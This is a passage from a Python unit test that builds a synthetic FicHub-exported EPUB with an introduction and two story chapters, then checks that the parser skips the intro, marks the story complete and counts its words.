        "<p>Original source: https://www.fanfiction.net/s/11234567/1/</p>"
        "<p>Exported with the assistance of FicHub.net</p>"
    )
    story = paragraphs("The station smelled of diesel and wet wool that morning. " * 10)
    data = simple_epub(
        [("Introduction", intro), ("The Platform", story), ("Leith", story)],
        title="The Long Way Home",
        description=summary.strip(),
    )
    doc = read_one("fichub.epub", data)
    assert [c.title for c in doc.chapters] == ["The Platform", "Leith"]
    assert doc.status == Status.COMPLETE and doc.stats.words == 1634
